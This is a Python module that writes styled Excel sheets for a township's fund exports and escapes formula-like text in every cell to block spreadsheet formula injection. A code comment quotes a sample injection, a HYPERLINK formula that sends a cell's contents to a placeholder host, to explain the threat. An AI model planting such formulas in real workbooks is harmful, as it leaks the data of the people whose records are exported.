"""One styled worksheet for the areas' Excel exports: bold header row, column widths, the
header frozen so it stays in view while the township's accountant scrolls; and formula-safe
cells for every workbook the program writes (`keep_as_text`, `neutralise_book`)."""
from __future__ import annotations

from typing import Iterable

from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter


# A text starting with one of these is taken as a formula by Excel or WPS (at once, or once the
# cell is edited), e.g. =HYPERLINK("http://x?leak="&B2,"详情") in a fund entry's summary.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value) -> bool:
    """Only strings: a negative amount is a number and stays a number."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def keep_as_text(cell) -> None:
    """Store a formula-like text as the text it is: a string cell with Excel's quote prefix
    (shown and edited as text). The value itself is unchanged, so reading it back gives the
    same text."""
    if formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


def neutralise_book(book) -> None:
    """Every cell of every sheet, just before saving: exports carry data, never formulas."""
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                keep_as_text(cell)


def add_sheet(book, title: str, header: list[str], rows: Iterable[list], *, widths: list[int] | None = None,
              fill: str | None = None, center: bool = False, formats: dict[int, str] | None = None):
    """Append a sheet to `book`; `formats` maps a 0-based column to an Excel number format."""
    ws = book.create_sheet(title[:31])          # Excel refuses longer sheet names
    ws.append(header)
    for cell in ws[1]:
        cell.font = Font(bold=True)
        if fill:
            cell.fill = PatternFill("solid", fgColor=fill)
        if center:
            cell.alignment = Alignment(horizontal="center")
    for r in rows:
        ws.append(r)
    if formats:
        for row in ws.iter_rows(min_row=2):
            for i, cell in enumerate(row):
                if i in formats:
                    cell.number_format = formats[i]
    for i, w in enumerate(widths or [14] * len(header), 1):
        ws.column_dimensions[get_column_letter(i)].width = w
    ws.freeze_panes = "A2"
    return ws
